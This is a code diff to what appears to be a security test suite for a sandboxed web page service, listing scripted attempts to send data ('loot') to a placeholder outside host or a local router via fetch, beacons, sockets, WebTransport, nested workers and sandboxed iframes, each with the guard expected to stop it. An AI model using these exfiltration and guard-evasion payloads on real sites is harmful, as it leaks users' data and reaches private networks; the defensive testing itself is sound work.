@@ -1,6 +1,21 @@
 /** Sending what was typed elsewhere, or reaching the office's network, without leaving the page. */
 import type { Area } from '../attack.ts'
-import { click, loads, refusedBy, shows } from './scripts.ts'
+import { CALL, click, loads, refusedBy, shows } from './scripts.ts'
+
+const asScript = (code: string) => `"/say?type=text/javascript&body=" + encodeURIComponent(${JSON.stringify(code)})`
+const asBlob = (code: string) => `URL.createObjectURL(new Blob([${JSON.stringify(code)}]))`
+
+/** Begins something in a worker of the service's, or of its own writing; what comes of it is heard elsewhere. */
+const ownWorker = (code: string, from: 'service' | 'blob' = 'service') => {
+  const said = `try { Promise.resolve(${code.startsWith('const') ? `(() => { ${code} })()` : code}).catch(() => {}) } catch {} postMessage('begun')`
+  return `const w = new Worker(${from === 'blob' ? asBlob(said) : asScript(said)}); return new Promise((r) => { w.onmessage = (e) => setTimeout(r, 400, e.data); w.onerror = () => r('failed'); setTimeout(r, 3000, 'nothing') })`
+}
+
+/** The same in one that pages share. */
+const sharedWorker = (code: string, from: 'service' | 'blob' = 'service') => {
+  const said = `onconnect = (e) => { try { Promise.resolve(${code}).catch(() => {}) } catch {} e.ports[0].postMessage('begun') }`
+  return `const w = new SharedWorker(${from === 'blob' ? asBlob(said) : asScript(said)}, String(Math.random())); return new Promise((r) => { w.port.onmessage = (e) => setTimeout(r, 400, e.data); w.onerror = () => r('failed'); setTimeout(r, 3000, 'nothing') })`
+}
 
 export const network: Area = {
   title: 'Requests from within the page',
@@ -14,34 +29,33 @@ export const network: Area = {
       name: 'fetch from this machine',
       script: refusedBy('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
       answers: 'refused',
-      told: 'unencrypted'
+      guard: ['policy', 'request']
     },
     {
       name: 'fetch from this machine, encrypted',
       script: refusedBy('fetch("https://{elsewhere}/", { mode: "no-cors" })'),
-      guard: ['request', 'private'],
       answers: 'refused',
-      told: 'private network'
+      guard: ['policy', 'request']
     },
     {
       name: 'fetch from the service under another name',
       script: refusedBy('fetch("http://localhost:{port}/loot", { mode: "no-cors" })'),
       answers: 'refused',
-      told: 'unencrypted'
+      guard: ['policy', 'request']
     },
     {
       name: 'ask by the old interface',
       script:
         'return new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r("granted"); x.onerror = () => r("refused"); x.open("POST", "http://{elsewhere}/"); x.send("loot") })',
       answers: 'refused',
-      told: 'unencrypted'
+      guard: ['policy', 'request']
     },
     {
       name: 'fetch with a log-in in the address',
       script: refusedBy(
         'new Promise((r, e) => { const i = new Image(); i.onload = r; i.onerror = e; i.src = "https://ana:pw@cdn.example/a.png" })'
       ),
-      guard: ['browser', 'request'],
+      guard: ['browser'],
       answers: 'refused'
     },
     {
@@ -53,7 +67,7 @@ export const network: Area = {
     {
       name: 'load a picture from the router',
       script: loads('img', 'e.src = "https://192.168.1.1/logo.png"'),
-      guard: ['request', 'private'],
+      guard: ['private'],
       answers: 'refused',
       told: 'private network (192.168.1.1)'
     },
@@ -113,11 +127,13 @@ export const network: Area = {
       name: 'name an icon of elsewhere',
       script: shows(
         '<link rel=icon href="http://{elsewhere}/icon.png"><link rel=apple-touch-icon href="http://{elsewhere}/a.png">'
-      )
+      ),
+      guard: ['browser']
     },
     {
       name: 'name a manifest of elsewhere',
-      script: shows('<link rel=manifest href="http://{elsewhere}/manifest.json">')
+      script: shows('<link rel=manifest href="http://{elsewhere}/manifest.json">'),
+      guard: ['browser']
     },
     {
       name: 'have something fetched ahead',
@@ -130,17 +146,19 @@ export const network: Area = {
     {
       name: 'have a page made ready ahead',
       script:
-        'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: ["http://{elsewhere}/1"], eagerness: "immediate" }], prerender: [{ urls: ["http://{elsewhere}/2"], eagerness: "immediate" }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 500))'
+        'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: ["http://{elsewhere}/1"], eagerness: "immediate" }], prerender: [{ urls: ["http://{elsewhere}/2"], eagerness: "immediate" }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 500))',
+      guard: ['browser']
     },
     {
       name: 'have a page of the service made ready ahead, which would then ask elsewhere',
       script:
-        'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prerender: [{ urls: ["/embedded?script=fetch(%22http://{elsewhere}/%22)"], eagerness: "immediate" }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 600))'
+        'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prerender: [{ urls: ["/embedded?script=fetch(%22http://{elsewhere}/%22)"], eagerness: "immediate" }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 600))',
+      guard: ['browser']
     },
     {
       name: 'send a last word elsewhere',
       script: 'navigator.sendBeacon("http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))',
-      told: 'unencrypted'
+      guard: ['policy', 'request']
     },
     {
       name: 'send a last word that outlives the page',
@@ -148,50 +166,128 @@ export const network: Area = {
         'fetch("http://{elsewhere}/", { method: "POST", body: "loot", keepalive: true, mode: "no-cors" })'
       ),
       answers: 'refused',
-      told: 'unencrypted'
+      guard: ['policy', 'request']
     },
-    { name: 'send a ping with a link', ...click('<a id=go href="#here" ping="http://{elsewhere}/">go</a>') },
+    {
+      name: 'send a ping with a link',
+      ...click('<a id=go href="#here" ping="http://{elsewhere}/">go</a>'),
+      guard: ['policy', 'request']
+    },
     {
       name: 'listen to events from elsewhere',
       script:
         'return new Promise((r) => { const e = new EventSource("http://{elsewhere}/"); e.onopen = () => r("granted"); e.onerror = () => { e.close(); r("refused") } })',
       answers: 'refused',
-      told: 'unencrypted'
+      guard: ['policy', 'request']
     },
     {
       name: 'speak to this machine over a socket',
       script: refusedBy(
         'new Promise((r, e) => { const s = new WebSocket("ws://{elsewhere}/"); s.onopen = r; s.onerror = e })'
       ),
-      guard: ['request', 'policy'],
-      answers: 'refused'
+      answers: 'refused',
+      guard: ['policy', 'request']
     },
     {
       name: 'speak to this machine over an encrypted socket',
       script: refusedBy(
         'new Promise((r, e) => { const s = new WebSocket("wss://{elsewhere}/"); s.onopen = r; s.onerror = e })'
       ),
-      guard: ['request', 'private'],
-      answers: 'refused'
+      answers: 'refused',
+      guard: ['policy', 'request']
     },
     {
       name: 'speak to this machine by the newest protocol',
       script: refusedBy('new WebTransport("https://{elsewhere}/").ready'),
-      guard: ['request', 'policy'],
+      guard: ['policy'],
+      answers: 'refused'
+    },
+    {
+      name: 'speak over an encrypted socket from a worker that pages share',
+      script: sharedWorker('new WebSocket("wss://{elsewhere}/")'),
+      guard: ['policy'],
+      answers: 'begun'
+    },
+    {
+      name: 'speak over a plain socket from a worker that pages share',
+      script: sharedWorker('new WebSocket("ws://{elsewhere}/")'),
+      guard: ['policy'],
+      answers: 'begun'
+    },
+    {
+      name: 'speak by the newest protocol from a worker that pages share',
+      script: sharedWorker('new WebTransport("https://{elsewhere}/").ready'),
+      guard: ['policy'],
+      answers: 'begun'
+    },
+    {
+      name: 'fetch from a worker that pages share',
+      script: sharedWorker('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
+      guard: ['browser'],
+      answers: 'begun'
+    },
+    {
+      name: 'speak over an encrypted socket from a shared worker that it wrote itself',
+      script: sharedWorker('new WebSocket("wss://{elsewhere}/")', 'blob'),
+      guard: ['policy'],
+      answers: 'begun'
+    },
+    {
+      name: 'speak by the newest protocol from a shared worker that it wrote itself',
+      script: sharedWorker('new WebTransport("https://{elsewhere}/").ready', 'blob'),
+      guard: ['policy'],
+      answers: 'begun'
+    },
+    {
+      name: 'speak by the newest protocol from a worker of the service',
+      script: ownWorker('new WebTransport("https://{elsewhere}/").ready'),
+      guard: ['policy'],
+      answers: 'begun'
+    },
+    {
+      name: 'speak by the newest protocol from a worker that it wrote itself',
+      script: ownWorker('new WebTransport("https://{elsewhere}/").ready', 'blob'),
+      guard: ['policy'],
+      answers: 'begun'
+    },
+    {
+      name: 'speak by the newest protocol from a worker within a worker',
+      script: ownWorker(
+        'const inner = `new WebTransport("https://{elsewhere}/").ready.catch(() => {})`; new Worker(URL.createObjectURL(new Blob([inner])))',
+        'blob'
+      ),
+      guard: ['policy'],
+      answers: 'begun'
+    },
+    {
+      name: 'speak by the newest protocol from a frame that it wrote itself',
+      script: shows(
+        '<iframe srcdoc="<script>new WebTransport(`https://{elsewhere}/`).ready.catch(() => {})</script>"></iframe>',
+        500
+      ),
+      guard: ['policy']
+    },
+    {
+      name: 'run a worker that is data',
+      script:
+        'return new Promise((r) => { try { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = () => r("granted"); w.onerror = () => r("refused") } catch { r("refused") } setTimeout(r, 800, "refused") })',
+      guard: ['policy'],
       answers: 'refused'
     },
     {
       name: 'reach elsewhere from a worker',
       script:
         'const code = `fetch("http://{elsewhere}/", { mode: "no-cors" }).then(() => postMessage("granted"), () => postMessage("refused"))`; const w = new Worker(URL.createObjectURL(new Blob([code]))); return new Promise((r) => { w.onmessage = (e) => r(e.data); w.onerror = () => r("refused") })',
-      answers: 'refused'
+      answers: 'refused',
+      guard: ['policy', 'request']
     },
     {
       name: 'run a worker of elsewhere',
       script: refusedBy(
         'new Promise((r, e) => { const w = new Worker("/redirect/302?to=http://{elsewhere}/"); w.onmessage = r; w.onerror = e })'
       ),
-      answers: 'refused'
+      answers: 'refused',
+      guard: ['browser']
     },
     {
       name: 'have a policy report what happens here to elsewhere',
@@ -219,6 +315,54 @@ export const network: Area = {
         'try { new (document.getElementById("f").contentWindow.RTCPeerConnection)(); return "granted" } catch { return "refused" }',
       guard: ['hold'],
       answers: 'refused'
+    },
+    {
+      name: 'call another computer from a frame that is shut off',
+      script: shows(`<iframe sandbox="allow-scripts" srcdoc="${CALL}"></iframe>`, 700),
+      guard: ['hold', 'one process']
+    },
+    {
+      name: 'call another computer from a frame within a frame that is shut off',
+      script: shows(`<iframe sandbox="allow-scripts" srcdoc="<iframe srcdoc='${CALL}'></iframe>"></iframe>`, 900),
+      guard: ['hold']
+    },
+    {
+      name: 'call another computer from a shut frame within a frame that it wrote itself',
+      script: shows(`<iframe srcdoc="<iframe sandbox=allow-scripts srcdoc='${CALL}'></iframe>"></iframe>`, 900),
+      guard: ['hold', 'one process']
+    },
+    {
+      name: 'call another computer from a frame without credentials',
+      script: shows(`<iframe credentialless srcdoc="${CALL}"></iframe>`, 700),
+      guard: ['hold']
+    },
+    {
+      name: 'call another computer from a frame of the service without credentials',
+      page: '<iframe id=f credentialless></iframe>',
+      script: `document.getElementById("f").src = "/say?body=" + encodeURIComponent(${JSON.stringify(CALL)}); await new Promise((r) => setTimeout(r, 700))`,
+      guard: ['hold']
+    },
+    {
+      name: 'call another computer from a frame that its own policy shuts off',
+      page: '<iframe id=f></iframe>',
+      script: `document.getElementById("f").src = "/say?h=" + encodeURIComponent("Content-Security-Policy:sandbox allow-scripts") + "&body=" + encodeURIComponent(${JSON.stringify(CALL)}); await new Promise((r) => setTimeout(r, 700))`,
+      guard: ['hold']
+    },
+    {
+      name: 'call another computer from a shut frame that it has only just made',
+      script: `const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = ${JSON.stringify(CALL)}; document.body.append(f); await new Promise((r) => setTimeout(r, 700))`,
+      guard: ['hold', 'one process']
+    },
+    {
+      name: 'call another computer from a shut frame with an address of the service',
+      page: '<iframe id=f sandbox="allow-scripts"></iframe>',
+      script: `document.getElementById("f").src = "/say?body=" + encodeURIComponent(${JSON.stringify(CALL)}); await new Promise((r) => setTimeout(r, 700))`,
+      guard: ['hold']
+    },
+    {
+      name: 'call another computer from ten shut frames at once',
+      script: `for (let i = 0; i < 10; i++) { const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = ${JSON.stringify(CALL)}; document.body.append(f) } await new Promise((r) => setTimeout(r, 1200))`,
+      guard: ['hold', 'one process']
     }
   ]
 }
